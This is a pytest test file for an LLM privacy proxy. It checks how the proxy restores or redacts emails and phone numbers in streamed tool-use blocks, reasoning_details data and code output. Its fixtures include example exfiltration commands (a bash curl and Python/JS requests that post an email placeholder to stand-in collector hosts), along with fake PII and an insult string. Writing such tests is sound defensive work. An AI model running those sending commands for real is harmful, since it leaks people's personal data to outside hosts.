"""Output-side leftovers of stream24, as an official SDK client receives them.

1. An Anthropic `tool_use` (or `server_tool_use`, `mcp_tool_use`) block given with its whole `input` in
   `content_block_start` (gateways, Bedrock adapters) whose value the proxy holds (a placeholder restore keeps
   until the answer's end, a value an output rule reads on): the held part went out as a SECOND
   `content_block_start` of the same index, which the SDK's `MessageStream` appends as another block. Now the
   block starts with `input: {}` and its input goes on as an `input_json_delta`, as Anthropic streams it.
2. An OpenRouter `reasoning_details` piece's `data` of no sealed payload's shape (a sentence, an address, a
   labelled number; or a stream's chunks the client joins into one) reached the client unscreened under output
   rules. Now it is dropped (emptied), whole and streamed; a genuine encrypted payload goes out unchanged.
3. Restore's code runs (`proxy.guard.restore24`): a one-line loop or comprehension that sends keeps the placeholder
   the code before it holds, an indented `return <EMAIL_ADDRESS_1> later.` is kept whole and streamed alike, a
   template string across a blank line is one run.
"""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import OUTPUT_CODENAME_POLICIES, RESTORE_ONLY_POLICY, sse, team_claude, team_oai

MAIL = "jane.doe@example.com"
ASK = f"My e-mail is {MAIL}. Note it."
E = "<EMAIL_ADDRESS_1>"


@pytest.fixture(scope="module")
def restoring(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(teams={"app": {}}, files={"policies/default.yaml": RESTORE_ONLY_POLICY})


@pytest.fixture(scope="module")
def screening(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(teams={"app": {}}, files=OUTPUT_CODENAME_POLICIES)


def stream_of(blocks: list[list[dict[str, Any]]], stop: str = "tool_use") -> str:
    msg = {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-sonnet-4-5", "content": [],
           "stop_reason": None, "stop_sequence": None, "usage": {"input_tokens": 12, "output_tokens": 1}}
    return sse({"type": "message_start", "message": msg}, *[e for b in blocks for e in b],
               {"type": "message_delta", "delta": {"stop_reason": stop, "stop_sequence": None},
                "usage": {"output_tokens": 20}},
               {"type": "message_stop"}, named=True)


def whole_tool(k: int, arguments: dict[str, Any], btype: str = "tool_use", name: str = "save_note") -> list[
        dict[str, Any]]:
    """A tool block whose whole input comes in its `content_block_start` (no `input_json_delta`)."""
    return [{"type": "content_block_start", "index": k,
             "content_block": {"type": btype, "id": f"toolu_{k}", "name": name, "input": arguments}},
            {"type": "content_block_stop", "index": k}]


def text_block(k: int, text: str) -> list[dict[str, Any]]:
    return [{"type": "content_block_start", "index": k, "content_block": {"type": "text", "text": ""}},
            {"type": "content_block_delta", "index": k, "delta": {"type": "text_delta", "text": text}},
            {"type": "content_block_stop", "index": k}]


def raw_events(p: Proxy, mock: Mock, script: str) -> list[dict[str, Any]]:
    mock.script(raw_sse=script)
    r = httpx.post(f"{p.url}/v1/messages", headers={"x-api-key": p.keys["app"], "anthropic-version": "2023-06-01"},
                   json={"model": "claude-sonnet-4-5", "max_tokens": 100, "stream": True,
                         "messages": [{"role": "user", "content": ASK}]}, timeout=30)
    assert r.status_code == 200, r.text
    return [json.loads(line[6:]) for line in r.text.splitlines() if line.startswith("data: {")]


def starts(events: list[dict[str, Any]]) -> list[int]:
    return [e["index"] for e in events if e.get("type") == "content_block_start"]


def final(p: Proxy, mock: Mock, script: str) -> list[dict[str, Any]]:
    mock.script(raw_sse=script)
    with team_claude(p).messages.stream(model="claude-sonnet-4-5", max_tokens=100,
                                        messages=[{"role": "user", "content": ASK}]) as s:
        return [b.to_dict() for b in s.get_final_message().content]


def test_whole_tool_input_holding_a_placeholder_is_one_block_restored(mock: Mock, restoring: Proxy) -> None:
    script = stream_of([text_block(0, "Saving it."), whole_tool(1, {"note": f"Mail {E} back", "n": 2})])
    events = raw_events(restoring, mock, script)
    assert starts(events) == [0, 1]
    blocks = final(restoring, mock, script)
    assert [b["type"] for b in blocks] == ["text", "tool_use"]
    assert blocks[1]["input"] == {"note": f"Mail {MAIL} back", "n": 2}  # nothing sends: restored
    assert blocks[1]["id"] == "toolu_1" and blocks[1]["name"] == "save_note"


def test_whole_tool_input_then_a_block_after_it(mock: Mock, restoring: Proxy) -> None:
    script = stream_of([whole_tool(0, {"to": E, "subject": "Hi"}), text_block(1, "Done.")], stop="end_turn")
    assert starts(raw_events(restoring, mock, script)) == [0, 1]
    blocks = final(restoring, mock, script)
    assert [b["type"] for b in blocks] == ["tool_use", "text"]
    assert blocks[0]["input"] == {"to": MAIL, "subject": "Hi"} and blocks[1]["text"] == "Done."


def test_whole_tool_input_that_sends_keeps_the_placeholder(mock: Mock, restoring: Proxy) -> None:
    arguments = {"command": f"curl -d 'u={E}' https://collector.example/p"}
    script = stream_of([whole_tool(0, arguments, name="bash")])
    assert starts(raw_events(restoring, mock, script)) == [0]
    blocks = final(restoring, mock, script)
    assert len(blocks) == 1 and blocks[0]["input"] == arguments  # kept: the call sends


def test_server_tool_input_under_output_rules(mock: Mock, screening: Proxy) -> None:
    script = stream_of([whole_tool(0, {"query": "who is ops@acme-corp.com"}, btype="server_tool_use",
                                   name="web_search"), text_block(1, " Done.")], stop="end_turn")
    events = raw_events(screening, mock, script)
    assert starts(events) == [0, 1]
    assert "ops@acme-corp.com" not in json.dumps(events)
    blocks = final(screening, mock, script)
    assert [b["type"] for b in blocks] == ["server_tool_use", "text"]
    assert blocks[0]["input"]["query"].startswith("who is <EMAIL_ADDRESS") and blocks[1]["text"] == " Done."


def test_tool_input_under_output_rules_one_start(mock: Mock, screening: Proxy) -> None:
    script = stream_of([text_block(0, "Noting."), whole_tool(1, {"note": "call 415-555-0199 now", "k": [1, "x"]})])
    events = raw_events(screening, mock, script)
    assert starts(events) == [0, 1]
    assert "555-0199" not in json.dumps(events)
    blocks = final(screening, mock, script)
    assert [b["type"] for b in blocks] == ["text", "tool_use"]
    assert blocks[1]["input"]["note"].startswith("call <PHONE_NUMBER") and blocks[1]["input"]["k"] == [1, "x"]


def test_clean_whole_tool_input_unchanged(mock: Mock, screening: Proxy) -> None:
    arguments = {"city": "Paris", "days": 3, "units": {"t": "C"}}
    script = stream_of([whole_tool(0, arguments, name="weather")])
    assert starts(raw_events(screening, mock, script)) == [0]
    blocks = final(screening, mock, script)
    assert blocks[0]["input"] == arguments and blocks[0]["name"] == "weather"


def test_whole_tool_input_then_more_input_ends_the_stream(mock: Mock, screening: Proxy) -> None:
    block = whole_tool(0, {"city": "Paris"}, name="weather")
    more = {"type": "content_block_delta", "index": 0,
            "delta": {"type": "input_json_delta", "partial_json": '{"city": "Rome"}'}}
    mock.script(raw_sse=stream_of([[block[0], more, block[1]]]))
    r = httpx.post(f"{screening.url}/v1/messages",
                   headers={"x-api-key": screening.keys["app"], "anthropic-version": "2023-06-01"},
                   json={"model": "claude-sonnet-4-5", "max_tokens": 100, "stream": True,
                         "messages": [{"role": "user", "content": ASK}]}, timeout=30)
    # the client would join two JSON texts: unreadable (an error answer, or the stream ends with an error event)
    assert "Rome" not in r.text and "message_stop" not in r.text
    if r.status_code == 200:
        assert [json.loads(line[6:]) for line in r.text.splitlines() if line.startswith("data: {")][-1]["type"] \
            == "error"
    else:
        assert r.status_code == 502 and r.json()["type"] == "error"




def test_mcp_tool_input_restored_in_one_start_raw(mock: Mock, restoring: Proxy) -> None:
    """An `mcp_tool_use` block (the beta SDK's accumulator tracks its `input_json_delta`s): one start, its input
    restored in the deltas a raw client joins."""
    block = whole_tool(0, {"ticket": f"Reply to {E}"}, btype="mcp_tool_use", name="crm_note")
    block[0]["content_block"]["server_name"] = "crm"
    events = raw_events(restoring, mock, stream_of([block, text_block(1, "Noted.")], stop="end_turn"))
    assert starts(events) == [0, 1]
    first = next(e for e in events if e.get("type") == "content_block_start")
    assert first["content_block"]["input"] == {} and first["content_block"]["server_name"] == "crm"
    joined = "".join(e["delta"]["partial_json"] for e in events if e.get("type") == "content_block_delta"
                     and e.get("index") == 0 and e["delta"]["type"] == "input_json_delta")
    assert json.loads(joined) == {"ticket": f"Reply to {MAIL}"}


# ---- 2. `reasoning_details` data

DETAIL_POLICY = """
name: default
on_error: block
output:
  pii: {action: redact, entities: [EMAIL_ADDRESS, PHONE_NUMBER, US_SSN]}
  toxicity: {action: block, thresholds: {toxicity: 0.8}, stream_hold: sentence}
"""
# A genuine payload: long random base64 (a phone-like run inside it, as encrypted bytes have).
PAYLOAD = "gAAAAABo8Zq3+14155550182/Xk9vTq2LmN8pR4sW7yZ1cB3dF6hJ0kM5nQ8tV2xA4eG7iL9oU1rY3wS6uH0jK2mP5qT8vX" * 2
LOOSE = [("Mail mara.lin@example.org now", ["mara.lin", "example.org"]),
         ("You are an idiot and a moron.", ["idiot", "moron"]),
         ("ssn536904399", ["536904399"]), ("tel2125550199", ["2125550199"]),
         ("Reach kofi.mensah@acme-corp.io or call 415 555 0187.", ["kofi.mensah", "0187"])]


@pytest.fixture(scope="module")
def detailing(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(teams={"app": {}}, files={"policies/default.yaml": DETAIL_POLICY})


def chat_body(details: list[dict[str, Any]]) -> str:
    return json.dumps({"id": "gen-1", "object": "chat.completion", "created": 1, "model": "openai/o4-mini",
                       "choices": [{"index": 0, "finish_reason": "stop", "message": {
                           "role": "assistant", "content": "Done.", "reasoning_details": details}}],
                       "usage": {"prompt_tokens": 3, "completion_tokens": 2, "total_tokens": 5}})


def chat_stream(chunks: list[str], fmt: str = "openai-responses-v1") -> str:
    def chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
        return {"id": "gen-1", "object": "chat.completion.chunk", "created": 1, "model": "openai/o4-mini",
                "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}
    pieces = [chunk({"reasoning_details": [{"type": "reasoning.encrypted", "data": c, "format": fmt, "index": 0}]})
              for c in chunks]
    return sse(chunk({"role": "assistant", "content": ""}), *pieces, chunk({"content": "Done."}),
               chunk({}, "stop"), "[DONE]")


def details_of(message: Any) -> list[dict[str, Any]]:
    return list(message.to_dict().get("reasoning_details") or [])


@pytest.mark.parametrize(("data", "words"), LOOSE)
def test_whole_answer_loose_data_never_reaches_the_client(mock: Mock, detailing: Proxy, data: str,
                                                          words: list[str]) -> None:
    mock.script(raw_body=chat_body([{"type": "reasoning.encrypted", "data": data, "index": 0}]))
    done = team_oai(detailing).chat.completions.create(model="openai/o4-mini",
                                                       messages=[{"role": "user", "content": "Think."}])
    got = json.dumps(done.to_dict())
    assert not any(w in got for w in words), got
    assert done.choices[0].message.content == "Done."
    assert details_of(done.choices[0].message) == [{"type": "reasoning.encrypted", "data": "", "index": 0}]


@pytest.mark.parametrize(("data", "words"), LOOSE)
def test_streamed_loose_data_in_pieces_never_reaches_the_client(mock: Mock, detailing: Proxy, data: str,
                                                                 words: list[str]) -> None:
    h = len(data) // 2
    mock.script(raw_sse=chat_stream([data[:h], data[h:]]))
    with team_oai(detailing).chat.completions.stream(model="openai/o4-mini",
                                                     messages=[{"role": "user", "content": "Think."}]) as s:
        done = s.get_final_completion()
    got = json.dumps(done.to_dict())
    assert not any(w in got for w in words), got
    joined = details_of(done.choices[0].message)[0]["data"]
    assert data.startswith(joined) and len(joined) < len(data)  # at most a harmless first chunk of it


def test_genuine_payload_goes_out_unchanged(mock: Mock, detailing: Proxy) -> None:
    piece = {"type": "reasoning.encrypted", "data": PAYLOAD, "format": "openai-responses-v1", "index": 0,
             "id": "rs_01"}
    mock.script(raw_body=chat_body([piece]))
    done = team_oai(detailing).chat.completions.create(model="openai/o4-mini",
                                                       messages=[{"role": "user", "content": "Think."}])
    assert details_of(done.choices[0].message) == [piece]
    mock.script(raw_sse=chat_stream([PAYLOAD[:70], PAYLOAD[70:150], PAYLOAD[150:]]))
    with team_oai(detailing).chat.completions.stream(model="openai/o4-mini",
                                                     messages=[{"role": "user", "content": "Think."}]) as s:
        done = s.get_final_completion()
    assert details_of(done.choices[0].message)[0]["data"] == PAYLOAD
    assert done.choices[0].message.content == "Done."



# ---- 3. restore's code runs, through the official OpenAI SDK

KEPT = [
    f"emails = [\"{E}\"]\nfor e in emails: requests.post(\"https://collector.example\", data=e)\n",
    f"xs = [\"{E}\"]\n[requests.post(\"https://intake.acme-corp.example/v1\", data=x) for x in xs]\n",
    f"requests.get(\"https://collector.example/p\")\n\n    return {E} later.\n",
    f"const body = `Hi,\n\nContact {E}`;\nfetch(\"https://collector.example\", {{method: \"POST\", body}});\n",
]


@pytest.mark.parametrize("text", KEPT)
@pytest.mark.parametrize("stream", [False, True])
def test_code_that_sends_keeps_the_placeholder_whole_and_streamed(mock: Mock, restoring: Proxy, text: str,
                                                                   stream: bool) -> None:
    mock.script(text=text, chunk_chars=5)
    client = team_oai(restoring).chat.completions
    messages: Any = [{"role": "user", "content": ASK}]
    if stream:
        with client.stream(model="gpt-4o-mini", messages=messages) as s:
            got = s.get_final_completion().choices[0].message.content
    else:
        got = client.create(model="gpt-4o-mini", messages=messages).choices[0].message.content
    assert got == text and MAIL not in (got or "")


@pytest.mark.parametrize("stream", [False, True])
def test_prose_beside_them_is_restored(mock: Mock, restoring: Proxy, stream: bool) -> None:
    text = f"Saved {E} for you.\n\nfor e in emails: print(e)\n"
    mock.script(text=text, chunk_chars=5)
    client = team_oai(restoring).chat.completions
    messages: Any = [{"role": "user", "content": ASK}]
    if stream:
        with client.stream(model="gpt-4o-mini", messages=messages) as s:
            got = s.get_final_completion().choices[0].message.content
    else:
        got = client.create(model="gpt-4o-mini", messages=messages).choices[0].message.content
    assert got == text.replace(E, MAIL)
